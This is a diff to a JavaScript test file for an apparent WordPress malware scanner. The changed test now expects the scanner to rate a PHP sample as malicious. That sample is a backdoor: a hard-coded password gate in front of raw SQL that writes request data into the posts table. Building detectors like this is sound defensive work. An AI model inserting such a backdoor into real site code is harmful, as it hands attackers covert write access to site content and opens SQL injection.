@@ -22,7 +22,8 @@ test('variable names written as escaped strings are encoder output', () => {
 test('a hard-coded secret gate in front of raw SQL writes of request data', () => {
   const bd = `<?php\nif (isset($_REQUEST['password']) && $_REQUEST['password'] == '0123456789abcdef0123456789abcdef') {\n  $wpdb->query('UPDATE posts SET content = "' . $_REQUEST['data'] . '" WHERE id = 1');\n}\n`;
   const f = findingOf('functions.php', bd);
-  assert.equal(f?.verdict, 'suspicious');
+  // the hard-coded secret plus request text written into the site's rows is the content backdoor
+  assert.equal(f?.verdict, 'malicious');
   assert.ok(reasons(f).includes('behind the password gate, request data is written into the site database by raw SQL (content injection)'));
   const app = `<?php\nif (hash_equals($secret, $_REQUEST['token'])) {\n  $wpdb->query('UPDATE posts SET views = views + 1');\n}\n`;
   assert.equal(findingOf('ok.php', app), undefined);
